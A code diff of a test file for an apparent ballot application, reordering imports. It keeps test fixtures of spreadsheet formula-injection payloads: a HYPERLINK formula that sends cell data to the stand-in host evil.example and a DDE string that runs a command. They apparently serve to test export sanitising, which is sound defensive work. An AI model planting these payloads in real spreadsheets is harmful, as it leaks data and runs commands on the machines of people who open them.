@@ -13,9 +13,11 @@ from conftest import login
 from test_web_admin import post
 from voting import vote
 
-from ballot import archive, signing, workbook
+from ballot.archive import build as archive
+from ballot.archive import signing
 from ballot.cli import main
-from ballot.models import Meeting
+from ballot.documents import workbook
+from ballot.storage.models import Meeting
 
 HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A3,"查看详情")'
 WRITE_INS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
